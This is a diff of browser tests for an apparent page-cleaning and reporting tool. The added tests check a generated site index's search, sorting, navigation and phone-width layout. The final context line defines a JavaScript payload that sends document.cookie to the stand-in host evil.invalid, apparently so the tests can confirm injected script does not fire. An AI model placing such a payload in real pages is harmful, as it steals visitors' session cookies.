@@ -17,8 +17,13 @@ from cleaners.explain import render_report
 from cleaners.pipeline import read
 from cleaners.rules import Rule, Where
 from cleaners.template import read_hints
+from crawler.index import render_index
+from crawler.survey import read_survey
 from tests.browser import PHONE, WIDE, chromium, complaints, requested, resize
 from tests.test_explain import STORY
+from tests.test_report import MARKS, OUTCOMES, invented_rows
+
+pytestmark = pytest.mark.slow  # a browser takes seconds to start
 
 CALL = "关注桥头早点铺，第12期福利等你来"
 
@@ -197,6 +202,50 @@ def test_a_snippet_is_copied(opened: Any) -> None:
         time.sleep(0.02)
     assert text_of(opened, "#drafts .copy") == "Copied"
     assert opened.execute_async_script("navigator.clipboard.readText().then(arguments[0])") == rule_text
+
+
+@pytest.fixture
+def index(browser: Any, tmp_path: Path) -> Iterator[Any]:
+    """The index of an invented site with a report of its most doubtful page, opened."""
+    survey = read_survey("桥头", invented_rows())
+    worst = survey.doubtful()[0][0]
+    (tmp_path / "pages").mkdir()
+    (tmp_path / "pages" / "x.html").write_text(render_report("x.html", read(STORY), home="../index.html"), "utf-8")
+    document = render_index(survey, outcomes=OUTCOMES, marks=MARKS, reports={worst.row: "pages/x.html"})
+    (tmp_path / "index.html").write_text(document, "utf-8")
+    resize(browser, WIDE)
+    browser.get((tmp_path / "index.html").as_uri())
+    yield browser
+    assert (requested(browser), complaints(browser)) == ([], [])
+
+
+def test_the_index_is_searched_sorted_and_left_for_a_page(index: Any) -> None:
+    shown_rows = "return [...document.querySelectorAll('.page')].filter(r => !r.hidden)"
+    assert index.execute_script(f"{shown_rows}.length") == 400
+    press(index, "/")
+    press(index, "template_disagrees")
+    found = index.execute_script(f"{shown_rows}.map(r => r.textContent)")
+    assert 0 < len(found) < 400
+    assert all("template_disagrees" in text for text in found)
+    press(index, "\ue00c")
+    find(index, "[data-sort=characters]").click()
+    longest = index.execute_script(f"{shown_rows}.map(r => Number(r.dataset.characters))")
+    assert longest == sorted(longest, reverse=True)
+    find(index, "[data-sort=score]").click()
+    press(index, "j", "\ue007")
+    assert text_of(index, "h1") == "桥上的灯又亮了"
+    find(index, ".mark a").click()
+    assert text_of(index, "h1") == "桥头"
+
+
+@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
+def test_the_index_fits_a_phone(index: Any, dark: bool) -> None:
+    resize(index, PHONE, dark=dark)
+    assert index.execute_script("return document.documentElement.scrollWidth") <= PHONE[0]
+    paths = (
+        "return [...document.querySelectorAll('.spark path')].every(p => p.getBBox().width > 0 || !p.getAttribute('d'))"
+    )
+    assert index.execute_script(paths)
 
 
 FIRE = "window.fired = 1; fetch('https://evil.invalid/' + document.cookie)"
